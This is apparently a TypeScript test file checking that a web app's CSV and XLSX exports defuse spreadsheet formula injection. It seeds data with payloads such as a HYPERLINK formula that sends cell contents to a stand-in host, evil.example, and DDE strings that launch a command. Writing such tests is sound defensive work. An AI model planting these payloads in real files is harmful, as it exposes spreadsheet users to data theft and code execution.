// Issue 12, item 4: formula injection through exports. A programme named =HYPERLINK(…) (and the other
// formula starters) goes into every export format — report CSV and XLSX with and without the
// publication variant, record list CSV and XLSX, the audit log CSV — through the route handlers; no
// cell a spreadsheet reads may start a formula, and XLSX cells must be strings, never formulas.
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it, vi } from 'vitest';
import { GET as auditExport } from '@/app/(app)/admin/audit/export/route';
import { GET as recordsExport } from '@/app/api/exports/records/route';
import { GET as reportExport } from '@/app/api/exports/report/route';
import { recordAuditNow } from '@/lib/audit/record';
import { csvComment, csvField, csvLine } from '@/lib/csv/write';
import { db } from '@/lib/db/client';
import { createCycle, createInstitution, createUser } from '@/lib/seed/factories';
import { createSubmittedDisclosure } from '@/lib/seed/report-factories';
import { actorFor } from '@/test/helpers/actors';
import { appRequest, signInAs } from '@/test/helpers/route-request';

vi.mock('@/lib/auth/actor', async (original) => (await import('@/test/helpers/route-request')).actorModule(await original()));
vi.mock('next-intl/server', async () => (await import('@/test/helpers/route-request')).intlServerModule);

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/leak?d="&A2,"x")',
  '+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
];
const FORMULA = /^[=+\-@\t\r]/;
let tag: string;

beforeAll(async () => {
  tag = Math.random().toString(36).slice(2, 8);
  await db.$transaction(
    async (tx) => {
      const inst = await createInstitution(tx, { slug: `csv-${tag}`, nameEn: `CSV University ${tag}`, nameJa: `CSV大学${tag}` });
      const cycle = await createCycle(tx, { institutionId: inst.id, fiscalYear: 2026 });
      // Six disclosures name every hostile programme, so even the publication variant (minimum 5) shows them.
      for (let i = 0; i < 6; i++) {
        const u = await createUser(tx, { displayName: `=HYPERLINK("http://evil.example/${i}")`, roles: [{ role: 'RESEARCHER', institutionId: inst.id }] });
        await createSubmittedDisclosure(tx, {
          cycleId: cycle.id,
          institutionId: inst.id,
          researcherId: u.id,
          researcherName: `=HYPERLINK("http://evil.example/r${i}","x")`,
          programmes: PAYLOADS.map((name) => ({ programme: { name, country: 'CN' }, sponsor: { name: `@${name}`, country: 'CN' } })),
          appointments: [{ name: '-1+1 Institute', country: 'CN' }],
        });
      }
    },
    { timeout: 60_000 },
  );
  // The auditor's own name is in every footer: a comma in it must not open a formula cell either.
  const auditor = await db.$transaction((tx) => createUser(tx, { displayName: 'Eve, =HYPERLINK("http://evil.example/footer")', roles: [{ role: 'AUDITOR', allInstitutions: true }] }));
  await signInAs(await actorFor(auditor.id));
});

/** Every cell as a spreadsheet splits the file: no comment handling, quotes as RFC 4180 says. */
function cells(text: string): string[] {
  const rows = parse(text.replace(/^\uFEFF/, ''), { relax_column_count: true, relax_quotes: true, skip_empty_lines: true }) as string[][];
  return rows.flat();
}

async function body(res: Response): Promise<Buffer> {
  expect(res.status, await res.clone().text().then((t) => t.slice(0, 200))).toBe(200);
  return Buffer.from(await res.arrayBuffer());
}

async function expectSafeCsv(res: Response, mustContain: string) {
  const text = (await body(res)).toString('utf8');
  const all = cells(text);
  expect(all.length).toBeGreaterThan(10);
  expect(all.filter((c) => FORMULA.test(c))).toEqual([]);
  // The value is there, defused, not dropped.
  expect(all).toContain(`'${mustContain}`);
  return text;
}

async function expectSafeXlsx(res: Response, mustContain: string) {
  const bytes = await body(res);
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes as unknown as ArrayBuffer);
  const texts: string[] = [];
  for (const sheet of wb.worksheets) {
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        // exceljs reads a sheet's <f> element as a Formula cell (and shared formulas likewise).
        expect(cell.type, `${sheet.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
        if (cell.type === ExcelJS.ValueType.String) texts.push(cell.value as string);
      }),
    );
  }
  expect(texts).toContain(mustContain);
}

describe('exports never write a live formula', () => {
  it('report CSV (breakdowns), with and without publication', async () => {
    for (const pub of ['', '&pub=true']) {
      const res = await reportExport(appRequest(`/api/exports/report?report=breakdowns&format=csv&fy=2026${pub}`));
      const text = await expectSafeCsv(res, PAYLOADS[0]!);
      expect(text).toContain('# exported by');
    }
  });

  it('report XLSX, with and without publication: programme names are string cells', async () => {
    for (const pub of ['', '&pub=true']) {
      await expectSafeXlsx(await reportExport(appRequest(`/api/exports/report?report=breakdowns&format=xlsx&fy=2026${pub}`)), PAYLOADS[0]!);
    }
  });

  it('every other report in CSV and XLSX', async () => {
    for (const report of ['overview', 'talent-grants', 'trends']) {
      for (const format of ['csv', 'xlsx']) {
        const res = await reportExport(appRequest(`/api/exports/report?report=${report}&format=${format}&fy=2026`));
        const bytes = await body(res);
        if (format === 'csv') expect(cells(bytes.toString('utf8')).filter((c) => FORMULA.test(c))).toEqual([]);
      }
    }
  });

  it('record list CSV and XLSX', async () => {
    await expectSafeCsv(await recordsExport(appRequest('/api/exports/records?format=csv&fy=2026')), `=HYPERLINK("http://evil.example/r0","x")`);
    await expectSafeXlsx(await recordsExport(appRequest('/api/exports/records?format=xlsx&fy=2026')), `=HYPERLINK("http://evil.example/r0","x")`);
  });

  it('audit log CSV (an attacker-typed address and details)', async () => {
    await recordAuditNow({ action: `test.csv.${tag}`, ip: '=HYPERLINK("http://evil.example/ip")', userAgent: '+ua', details: { note: '=1+1' } });
    const admin = await db.$transaction((tx) => createUser(tx, { roles: [{ role: 'ADMIN', allInstitutions: true }] }));
    await signInAs(await actorFor(admin.id));
    await expectSafeCsv(await auditExport(appRequest(`/admin/audit/export?action=test.csv.${tag}`)), '=HYPERLINK("http://evil.example/ip")');
  });
});

describe('the CSV writer', () => {
  it('neutralises each formula starter, quotes per RFC 4180, keeps numbers numbers', () => {
    for (const p of PAYLOADS) expect((parse(csvLine([p])) as string[][])[0]?.[0]).toBe(`'${p}`);
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField(' padded ')).toBe('" padded "');
    expect(csvField(-5)).toBe('-5');
    expect(csvField(12n)).toBe('12');
    expect(csvField(null)).toBe('');
    expect(csvField({ a: '=1' })).toBe('"{""a"":""=1""}"');
    expect(csvLine(['x', 1])).toBe('x,1\r\n');
    // A comment line split at its commas opens no formula and no quoted field.
    const comment = csvComment('by Eve, =HYPERLINK("x"), +1, "=2", ok');
    expect(cells(comment).filter((c) => FORMULA.test(c))).toEqual([]);
    expect(comment).toBe(`# by Eve, '=HYPERLINK("x"), '+1, '"=2", ok\r\n`);
  });
});
